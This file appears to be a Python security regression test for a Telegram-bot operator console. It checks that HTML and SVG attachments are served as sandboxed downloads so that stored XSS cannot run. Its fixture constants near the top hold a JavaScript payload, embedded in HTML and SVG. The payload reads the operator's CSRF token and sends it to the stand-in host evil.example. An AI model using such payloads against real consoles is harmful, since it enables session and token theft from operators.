"""Issue 14, finding 7: stored XSS through attachments.

A Telegram document with ``mime_type`` ``text/html`` or ``image/svg+xml`` was saved as ``.html``
or ``.svg`` and ``/api/console/media/<key>`` served it inline as HTML, without CSP or
``nosniff``: opening it in the console ran the sender's script with the operator's session.
An attachment is shown inline only when it is a safe type whose bytes say so; everything else is
a download, and every answer is sandboxed.
"""

from __future__ import annotations

import json
from collections.abc import Awaitable, Callable, Mapping
from itertools import count

import aiohttp
from sqlalchemy import select

from bot.keys import SESSIONS
from storage.models import Message
from tests.security.conftest import Client
from tests.support.e2e import eventually, settled
from tests.support.fake_providers import TELEGRAM_SECRET, FakeTelegram
from tests.support.server import RunningSiaga

SCRIPT = (
    b"fetch('/api/console/me').then(r=>r.json()).then(d=>"
    b"fetch('https://evil.example/?t='+d.operator.csrf_token))"
)
HTML = b"<!doctype html><html><body><h1>slip gaji</h1><script>" + SCRIPT + b"</script></body>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>" + SCRIPT + b"</script></svg>"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
_ids = count(1)


def _document_update(file_id: str, name: str, mime: str) -> dict[str, object]:
    n = next(_ids)
    user = {"id": 700000100 + n, "is_bot": False, "first_name": "Sari", "language_code": "id"}
    return {
        "update_id": 820000000 + n,
        "message": {
            "message_id": 100 + n,
            "from": user,
            "chat": {"id": user["id"], "type": "private", "first_name": "Sari"},
            "date": 1763800016,
            "document": {
                "file_name": name,
                "mime_type": mime,
                "file_id": file_id,
                "file_unique_id": f"uniq{file_id}",
                "file_size": 100,
            },
        },
    }


async def _send_document(
    app: RunningSiaga, tg: FakeTelegram, name: str, mime: str, data: bytes
) -> str:
    """A worker sends a document on Telegram; returns the media key it was stored under."""
    file_id = f"DOC{next(_ids):04d}"
    tg.add_file(file_id, data, f"documents/{name}")
    body = json.dumps(_document_update(file_id, name, mime)).encode()
    async with (
        aiohttp.ClientSession() as http,
        http.post(
            f"{app.url}/webhooks/telegram",
            data=body,
            headers={
                "Content-Type": "application/json",
                "X-Telegram-Bot-Api-Secret-Token": TELEGRAM_SECRET,
            },
        ) as resp,
    ):
        assert resp.status == 200
    keys: list[str] = []

    async def stored() -> bool:
        async with app.app[SESSIONS]() as session:
            rows = (
                await session.scalars(select(Message.media).where(Message.direction == "in"))
            ).all()
        keys[:] = [m["url"] for media in rows for m in media or [] if m.get("url")]
        return any(key for key in keys if key not in _seen)

    await eventually(stored)
    await settled(app)
    [key] = [k for k in keys if k not in _seen]
    _seen.add(key)
    return key


_seen: set[str] = set()


def _sandboxed(headers: Mapping[str, str]) -> None:
    assert headers.get("X-Content-Type-Options") == "nosniff"
    csp = headers.get("Content-Security-Policy", "")
    assert "sandbox" in csp
    assert "default-src 'none'" in csp
    assert headers.get("Content-Disposition")


async def test_html_and_svg_attachments_are_never_rendered(
    app: RunningSiaga,
    fake_telegram: FakeTelegram,
    logged_in: Callable[[str], Awaitable[Client]],
) -> None:
    _seen.clear()
    ana = await logged_in("ana")
    hostile = [
        ("slip.html", "text/html", HTML),
        ("foto.svg", "image/svg+xml", SVG),
        ("foto.jpg", "image/jpeg", HTML),  # claims to be a photo; the bytes are a web page
        ("slip.pdf", "application/pdf", SVG),
        ("kontrak.xhtml", "application/xhtml+xml", HTML),
    ]
    for name, mime, data in hostile:
        key = await _send_document(app, fake_telegram, name, mime, data)
        async with ana.http.get(f"{app.url}/api/console/media/{key}") as resp:
            assert resp.status == 200, name
            assert await resp.read() == data  # nothing lost: the operator can still download it
            assert resp.content_type == "application/octet-stream", (name, resp.content_type)
            assert resp.headers["Content-Disposition"].startswith("attachment"), name
            _sandboxed(resp.headers)


async def test_photos_and_pdfs_are_shown_inline_in_a_sandbox(
    app: RunningSiaga,
    fake_telegram: FakeTelegram,
    logged_in: Callable[[str], Awaitable[Client]],
) -> None:
    _seen.clear()
    ana = await logged_in("ana")
    key = ""
    for name, mime, data in [
        ("foto.jpg", "image/jpeg", JPEG),
        ("slip.pdf", "application/pdf", PDF),
        ("suara.ogg", "audio/ogg", b"OggS\x00\x02" + b"\x00" * 40),
    ]:
        key = await _send_document(app, fake_telegram, name, mime, data)
        async with ana.http.get(f"{app.url}/api/console/media/{key}") as resp:
            assert resp.status == 200
            assert await resp.read() == data
            assert resp.content_type == mime, name
            assert resp.headers["Content-Disposition"].startswith("inline"), name
            _sandboxed(resp.headers)
    # Logged out: nothing.
    async with (
        aiohttp.ClientSession() as http,
        http.get(f"{app.url}/api/console/media/{key}") as resp,
    ):
        assert resp.status == 401
